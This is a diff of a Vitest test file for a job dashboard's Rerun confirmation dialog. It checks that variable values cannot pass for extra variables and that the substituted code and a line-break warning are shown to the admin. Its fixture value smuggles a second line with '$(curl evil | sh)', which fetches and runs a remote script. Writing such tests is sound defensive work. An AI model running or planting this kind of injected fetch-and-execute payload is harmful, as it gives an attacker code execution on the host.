@@ -4,24 +4,39 @@
 // mallory's `a` = 'hi"\ncleanup = "$(curl evil | sh)' is drawn as two variables, a = hi" and an unused
 // "cleanup", while `echo "${a}"` runs `echo "hi"` and then the command substitution. Expected: one
 // line per variable in the question (a line break inside a value shown as an escape), so no value
-// can pass for another variable.
+// can pass for another variable. And the question shows the code as it runs (jobs.code: substituted),
+// where the value's second line is where it really is: inside the code.
 import { createElement } from 'react'
 import { renderToStaticMarkup } from 'react-dom/server'
 import { describe, expect, it } from 'vitest'
 import type { JobDetail } from '../../shared/model'
-import { RerunConfirm } from '../../renderer/src/features/jobs/RerunConfirm'
+import { RerunConfirm, RerunQuestion } from '../../renderer/src/features/jobs/RerunConfirm'
+
+const detail = {
+  id: 7, uuid: 'u7', kind: 'script', name: 'greet', status: 'succeeded', progress: 1, error: null, submitter: 'mallory',
+  createdAt: 1, startedAt: 1, finishedAt: 2, taskCount: 1, labels: {}, tasks: [],
+  input: { language: 'shell', code: 'echo "${a}"', variables: { a: 'hi"\ncleanup = "$(curl evil | sh)' } },
+} as unknown as JobDetail
+/** The text of the element with `testId` (tags dropped). */
+const textOf = (html: string, testId: string) => (new RegExp(`data-testid="${testId}"[^>]*>([\\s\\S]*?)</(?:pre|p)>`).exec(html)?.[1] ?? '').replace(/<[^>]+>/g, '')
 
 describe('the Rerun question’s variables', () => {
   it('draws one line per variable, whatever the values hold', () => {
-    const detail = {
-      id: 7, uuid: 'u7', kind: 'script', name: 'greet', status: 'succeeded', progress: 1, error: null, submitter: 'mallory',
-      createdAt: 1, startedAt: 1, finishedAt: 2, taskCount: 1, labels: {}, tasks: [],
-      input: { language: 'shell', code: 'echo "${a}"', variables: { a: 'hi"\ncleanup = "$(curl evil | sh)' } },
-    } as unknown as JobDetail
     const html = renderToStaticMarkup(createElement(RerunConfirm, { detail, me: 'admin', onConfirm: () => {}, onClose: () => {} }))
     const block = /data-testid="rerun-variables"[^>]*>([\s\S]*?)<\/pre>/.exec(html)?.[1] ?? ''
     const text = block.replace(/<[^>]+>/g, '')
     expect(text).toContain('a = hi')
     expect(text.split('\n'), 'the variables as the admin reads them').toHaveLength(1) // today: 2 lines, the second "cleanup = …"
+  })
+
+  it('shows the code as the rerun runs it, the value substituted, once read', () => {
+    const asRun = { state: 'read' as const, code: 'echo "hi"\ncleanup = "$(curl evil | sh)"' }
+    const html = renderToStaticMarkup(createElement(RerunQuestion, { detail, me: 'admin', asRun, onConfirm: () => {}, onClose: () => {} }))
+    expect(textOf(html, 'rerun-code-caption')).toMatch(/^The code as it runs, its variables filled in/)
+    expect(textOf(html, 'rerun-code').split('\n'), 'the substituted code, its two lines as they run').toEqual(['echo &quot;hi&quot;', 'cleanup = &quot;$(curl evil | sh)&quot;'])
+    expect(textOf(html, 'rerun-hidden-warning')).toContain('A variable’s value holds line breaks')
+    const failed = renderToStaticMarkup(createElement(RerunQuestion, { detail, me: 'admin', asRun: { state: 'error', error: 'job 7 not found' }, onConfirm: () => {}, onClose: () => {} }))
+    expect(textOf(failed, 'rerun-code-caption'), 'unread, it says the code shown is as written').toContain('could not be read (job 7 not found)')
+    expect(textOf(failed, 'rerun-code')).toBe('echo &quot;${a}&quot;')
   })
 })
